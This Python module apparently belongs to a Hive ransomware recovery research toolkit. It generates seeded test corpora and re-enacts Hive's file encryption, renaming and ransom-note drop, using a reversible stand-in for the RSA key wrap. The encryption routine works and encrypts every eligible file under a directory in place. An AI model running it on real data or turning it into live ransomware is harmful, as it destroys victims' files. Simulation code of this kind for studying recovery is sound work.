"""Ground-truth corpora and a faithful re-enactment of Hive file infection.

Everything here is seeded so experiments can be replayed. The RSA wrapping of
the master key is replaced by a deterministic stand-in: recovery only ever
sees the MD5 tag of the wrapped blob.
"""

from __future__ import annotations

import fnmatch
import hashlib
import json
import logging
import os
import re
import shutil
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np

from .extraction import load_signature_db
from .layout import (
    KEY_SIZE,
    KS1_LEN,
    KS1_MASK,
    KS2_LEN,
    SUFFIX,
    FileToken,
    encode_filename,
    encrypted_spans,
    key_file_name,
)

log = logging.getLogger(__name__)

RANSOM_NOTE = "HOW_TO_DECRYPT.txt"
DEFAULT_EXCLUSIONS = ("*.lnk", "*.exe", "*.dll", "*.sys", "Windows/*")
PROTECTED_DIRS = ("Program Files", "Program Files (x86)", "ProgramData")
_WRITE_CHUNK = 1 << 24
_STANDIN_PAD = b"hivekey stand-in for RSA-2048-OAEP wrapping"
SIGNATURE_MAGIC = {ext: e.magic for ext, e in load_signature_db().items() if e.offset_in_file == 0}



class IoFailure(OSError):
    def __init__(self, path, cause):
        super().__init__(f"{path}: {cause}")
        self.path = str(path)
        self.cause = cause


class PartialInfection(RuntimeError):
    def __init__(self, report: "InfectionReport"):
        super().__init__(f"{len(report.failures)} file(s) could not be infected")
        self.report = report


# --- master key -----------------------------------------------------------


def generate_master_key(seed: int) -> np.ndarray:
    """10 MiB of seeded pseudorandom key material (stand-in for crypto/rand)."""
    rng = np.random.default_rng([seed, 0x4B4559])
    return np.frombuffer(rng.bytes(KEY_SIZE), dtype=np.uint8).copy()


def check_key(key) -> np.ndarray:
    if isinstance(key, (bytes, bytearray, memoryview)):
        arr = np.frombuffer(key, dtype=np.uint8)
    else:
        arr = np.asarray(key, dtype=np.uint8)
    if arr.shape != (KEY_SIZE,):
        raise ValueError(f"master key must be {KEY_SIZE:#x} bytes, got {arr.size:#x}")
    return arr


def wrap_master_key(key) -> tuple[bytes, bytes]:
    """Return (stand-in wrapped blob, key tag = MD5 of the blob)."""
    key = check_key(key)
    pad = np.frombuffer(hashlib.shake_256(_STANDIN_PAD).digest(KEY_SIZE), dtype=np.uint8)
    blob = (key ^ pad)[::-1].tobytes()
    return blob, hashlib.md5(blob).digest()


def load_key(path) -> np.ndarray:
    data = Path(path).read_bytes()
    return check_key(np.frombuffer(data, dtype=np.uint8))


# --- encryption -----------------------------------------------------------


def file_keystream(key, sp1: int, sp2: int) -> np.ndarray:
    """The 1 MiB per-file keystream: Keystream1[i] ^ Keystream2[i % 0x400]."""
    key = check_key(key)
    return key[sp1 : sp1 + KS1_LEN] ^ np.tile(key[sp2 : sp2 + KS2_LEN], KS1_LEN // KS2_LEN)


def _encrypt_array(buf: np.ndarray, key, offs) -> None:
    eks = file_keystream(key, offs.sp1, offs.sp2)
    layout = encrypted_spans(len(buf))
    for start, stop in layout.chunks():
        pos = layout.positions(start, stop)
        buf[pos] ^= eks[pos & KS1_MASK]


def encrypt_file(data: bytes, key, r1: int, r2: int) -> bytes:
    """XOR the encrypted spans of `data` with the per-file keystream.

    The operation is an involution: applying it twice restores the input.
    """
    buf = np.frombuffer(bytes(data), dtype=np.uint8).copy()
    _encrypt_array(buf, key, FileToken(bytes(16), r1, r2).offsets)
    return buf.tobytes()


def encrypt_path(path, key, r1: int, r2: int) -> None:
    """Encrypt a file in place through a memory map."""
    path = Path(path)
    if path.stat().st_size == 0:
        return
    mm = np.memmap(path, dtype=np.uint8, mode="r+")
    try:
        _encrypt_array(mm, key, FileToken(bytes(16), r1, r2).offsets)
        mm.flush()
    finally:
        del mm


# --- corpora --------------------------------------------------------------

_SIZE_RE = re.compile(r"^\s*([0-9]*\.?[0-9]+)\s*([KMG]?)i?B?\s*$", re.I)
_UNITS = {"": 1, "K": 1 << 10, "M": 1 << 20, "G": 1 << 30}


def parse_size(text: str) -> int:
    """Parse '21K', '1.5M', '4096' with binary suffixes."""
    m = _SIZE_RE.match(str(text))
    if not m:
        raise ValueError(f"bad size: {text!r}")
    return int(float(m.group(1)) * _UNITS[m.group(2).upper()])


@dataclass(frozen=True)
class SizeClass:
    mean: int
    jitter: int = 0
    weight: float = 1.0

    @property
    def low(self) -> int:
        return self.mean - self.jitter

    @property
    def high(self) -> int:
        return self.mean + self.jitter

    @classmethod
    def parse(cls, text: str, weight: float = 1.0) -> "SizeClass":
        """'21K±5K', '21K+-5K', '2K-127K' (uniform range) or a bare size."""
        text = text.strip()
        for sep in ("±", "+-", "+/-"):
            if sep in text:
                mean, jit = text.split(sep, 1)
                return cls(parse_size(mean), parse_size(jit), weight)
        if "-" in text.lstrip("-"):
            lo, hi = (parse_size(t) for t in text.split("-", 1))
            if hi < lo:
                raise ValueError(f"empty range {text!r}")
            return cls((lo + hi) // 2, (hi - lo) // 2, weight)
        return cls(parse_size(text), 0, weight)


@dataclass
class CorpusSpec:
    file_count: int
    size_distribution: list[SizeClass]
    seed: int = 0
    content_model: str = "random"
    extension: str = "bin"
    # allocate exact per-class counts proportional to weight instead of sampling
    stratified: bool = False

    def __post_init__(self):
        if self.file_count <= 0:
            raise ValueError("file_count must be positive")
        if not self.size_distribution:
            raise ValueError("size_distribution is empty")
        if any(c.mean <= 0 or c.jitter < 0 or c.low < 0 for c in self.size_distribution):
            raise ValueError("size classes need mean > 0 and 0 <= jitter <= mean")
        if sum(c.weight for c in self.size_distribution) <= 0:
            raise ValueError("weights must sum to a positive value")
        if self.content_model not in ("random", "signatured"):
            raise ValueError(f"unknown content model {self.content_model!r}")
        if self.content_model == "signatured" and self.extension not in SIGNATURE_MAGIC:
            raise ValueError(f"no signature known for .{self.extension}")


def _stratified_counts(weights: np.ndarray, total: int) -> np.ndarray:
    share = weights / weights.sum() * total
    counts = np.floor(share).astype(np.int64)
    order = np.argsort(-(share - counts), kind="stable")
    counts[order[: total - counts.sum()]] += 1
    return counts


def sample_sizes(spec: CorpusSpec) -> list[int]:
    rng = np.random.default_rng([spec.seed, 1])
    classes = spec.size_distribution
    weights = np.array([c.weight for c in classes], dtype=float)
    if spec.stratified:
        picks = np.repeat(np.arange(len(classes)), _stratified_counts(weights, spec.file_count))
    else:
        picks = rng.choice(len(classes), size=spec.file_count, p=weights / weights.sum())
    lows = np.array([classes[k].low for k in picks], dtype=np.int64)
    highs = np.array([classes[k].high for k in picks], dtype=np.int64)
    return [int(s) for s in rng.integers(lows, highs, endpoint=True)]


def file_content(spec: CorpusSpec, index: int, size: int):
    """Yield the content of corpus file `index` in chunks (deterministic)."""
    rng = np.random.default_rng([spec.seed, 2, index])
    magic = SIGNATURE_MAGIC.get(spec.extension, b"") if spec.content_model == "signatured" else b""
    written = 0
    while written < size:
        n = min(_WRITE_CHUNK, size - written)
        chunk = rng.bytes(n)
        if written == 0 and magic:
            chunk = (magic + chunk[len(magic) :])[:n]
        written += n
        yield chunk


def corpus_file_bytes(spec: CorpusSpec, index: int, size: int) -> bytes:
    return b"".join(file_content(spec, index, size))


def corpus_name(spec: CorpusSpec, index: int) -> str:
    return f"file_{index:05d}.{spec.extension}"


def generate_corpus(spec: CorpusSpec, out_dir) -> list[Path]:
    out_dir = Path(out_dir)
    try:
        out_dir.mkdir(parents=True, exist_ok=True)
    except OSError as exc:
        raise IoFailure(out_dir, exc) from exc
    paths = []
    for i, size in enumerate(sample_sizes(spec)):
        path = out_dir / corpus_name(spec, i)
        try:
            with open(path, "wb") as fh:
                for chunk in file_content(spec, i, size):
                    fh.write(chunk)
        except OSError as exc:
            raise IoFailure(path, exc) from exc
        paths.append(path)
    return paths


# --- infection ------------------------------------------------------------


def draw_randoms(seed: int, count: int) -> list[tuple[int, int]]:
    """Per-file (R1, R2) pairs, stand-in for math/rand."""
    rng = np.random.default_rng([seed, 3])
    vals = rng.integers(0, np.iinfo(np.uint64).max, size=(count, 2), dtype=np.uint64, endpoint=True)
    return [(int(a), int(b)) for a, b in vals]


@dataclass
class InfectionConfig:
    target_root: Path
    key_output_dir: Path
    privilege: str = "admin"
    exclusions: tuple[str, ...] = DEFAULT_EXCLUSIONS
    jobs: int = 1

    def __post_init__(self):
        self.target_root = Path(self.target_root)
        self.key_output_dir = Path(self.key_output_dir)
        if self.privilege not in ("admin", "user"):
            raise ValueError(f"privilege must be admin or user, not {self.privilege!r}")
        if not self.target_root.is_dir() or not os.access(self.target_root, os.W_OK):
            raise ValueError(f"target_root {self.target_root} must be a writable directory")

    @property
    def virtual_store(self) -> Path:
        return self.key_output_dir / "VirtualStore"


@dataclass
class InfectedFile:
    path: str
    original_path: str
    r1: int
    r2: int
    size: int

    def to_json(self) -> dict:
        return {
            "path": self.path,
            "original_path": self.original_path,
            "r1": f"{self.r1:016x}",
            "r2": f"{self.r2:016x}",
            "size": self.size,
        }

    @classmethod
    def from_json(cls, d: dict) -> "InfectedFile":
        return cls(d["path"], d.get("original_path", ""), int(d["r1"], 16), int(d["r2"], 16), int(d["size"]))


@dataclass
class InfectionReport:
    seed: int
    key_tag: bytes
    files: list[InfectedFile] = field(default_factory=list)
    failures: list[dict] = field(default_factory=list)
    key_file: str = ""

    def to_json(self) -> dict:
        return {
            "seed": self.seed,
            "key_tag": self.key_tag.hex(),
            "key_file": self.key_file,
            "files": [f.to_json() for f in self.files],
            "failures": self.failures,
        }

    def dump(self, path) -> None:
        Path(path).write_text(json.dumps(self.to_json(), indent=1))

    @classmethod
    def load(cls, path) -> "InfectionReport":
        d = json.loads(Path(path).read_text())
        return cls(
            d["seed"],
            bytes.fromhex(d["key_tag"]),
            [InfectedFile.from_json(f) for f in d["files"]],
            d.get("failures", []),
            d.get("key_file", ""),
        )


def _excluded(rel: Path, patterns) -> bool:
    posix = rel.as_posix()
    return any(fnmatch.fnmatch(posix, p) or fnmatch.fnmatch(rel.name, p) for p in patterns)


def _is_protected(rel: Path) -> bool:
    return bool(rel.parts) and rel.parts[0] in PROTECTED_DIRS


def list_targets(config: InfectionConfig) -> list[Path]:
    """Files under target_root the malware would encrypt, sorted."""
    skip_dirs = {config.key_output_dir.resolve()}
    out = []
    for dirpath, dirnames, filenames in os.walk(config.target_root):
        dirnames[:] = sorted(d for d in dirnames if (Path(dirpath) / d).resolve() not in skip_dirs)
        for name in sorted(filenames):
            path = Path(dirpath) / name
            rel = path.relative_to(config.target_root)
            if name == RANSOM_NOTE or name.endswith(SUFFIX) or _excluded(rel, config.exclusions):
                continue
            out.append(path)
    return out


def infect_corpus(config: InfectionConfig, key, seed: int) -> InfectionReport:
    """Encrypt every eligible file under target_root and rename it.

    With user privilege, files below the protected program directories are
    copied into the VirtualStore and the copy is encrypted, so the original
    survives next to it.
    """
    key = check_key(key)
    blob, tag = wrap_master_key(key)
    for step in ("process termination", "service termination", "shadow copy deletion", "disk cleaning"):
        log.info("%s: not simulated", step)
    try:
        config.key_output_dir.mkdir(parents=True, exist_ok=True)
        key_path = config.key_output_dir / key_file_name(tag)
        key_path.write_bytes(blob)
    except OSError as exc:
        raise IoFailure(config.key_output_dir, exc) from exc
    report = InfectionReport(seed, tag, key_file=str(key_path))

    targets = list_targets(config)
    randoms = draw_randoms(seed, len(targets))

    def work(item):
        path, (r1, r2) = item
        rel = path.relative_to(config.target_root)
        src = path
        if config.privilege == "user" and _is_protected(rel):
            src = config.virtual_store / rel
            src.parent.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(path, src)
        size = src.stat().st_size
        encrypt_path(src, key, r1, r2)
        dst = src.with_name(encode_filename(src.name, FileToken(tag, r1, r2)))
        os.replace(src, dst)
        return InfectedFile(str(dst), str(path), r1, r2, size)

    results: list = [None] * len(targets)
    with ThreadPoolExecutor(max_workers=max(1, config.jobs)) as pool:
        futures = [pool.submit(work, item) for item in zip(targets, randoms)]
        for i, fut in enumerate(futures):
            try:
                results[i] = fut.result()
            except OSError as exc:
                report.failures.append({"path": str(targets[i]), "error": str(exc)})
    report.files = [r for r in results if r is not None]

    note_dirs = {Path(f.path).parent for f in report.files}
    for d in sorted(note_dirs):
        try:
            (d / RANSOM_NOTE).write_text("Your network has been breached and all data was encrypted.\n")
        except OSError as exc:
            report.failures.append({"path": str(d / RANSOM_NOTE), "error": str(exc)})
    if report.failures:
        raise PartialInfection(report)
    return report
